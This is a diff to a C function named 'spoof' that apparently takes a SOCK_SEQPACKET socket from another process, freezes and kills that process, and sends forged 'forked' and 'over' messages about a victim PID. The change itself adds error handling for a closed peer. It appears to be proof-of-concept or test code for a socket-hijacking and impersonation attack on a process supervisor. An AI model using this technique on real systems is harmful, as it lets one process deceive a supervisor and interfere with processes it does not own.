@@ -146,11 +146,18 @@ static int spoof(int victim, int milliseconds) {
         if (stolen < 0 || getsockopt(stolen, SOL_SOCKET, SO_TYPE, &type, &size) != 0 || type != SOCK_SEQPACKET) continue;
         kill(pid, SIGSTOP);
         struct message forked = {3, (unsigned)victim, 0, {0, 0, 0}}, over = {5, 0, 1, {0, 0, 0}};
-        if (send(stolen, &forked, sizeof forked, 0) < 0 || send(stolen, &over, sizeof over, 0) < 0) return failed("send");
+        int sent = send(stolen, &forked, sizeof forked, MSG_NOSIGNAL) >= 0 && send(stolen, &over, sizeof over, MSG_NOSIGNAL) >= 0;
         kill(pid, SIGKILL);
-        puts("sent");
-        return 0;
+        if (sent) {
+          puts("sent");
+          return 0;
+        }
+        // Too late for this one: runt has closed its end.
+        if (errno != EPIPE && errno != ECONNRESET) return failed("send");
+        close(stolen);
+        break;
       }
+      if (pidfd >= 0) close(pidfd);
     }
     closedir(dir);
   }
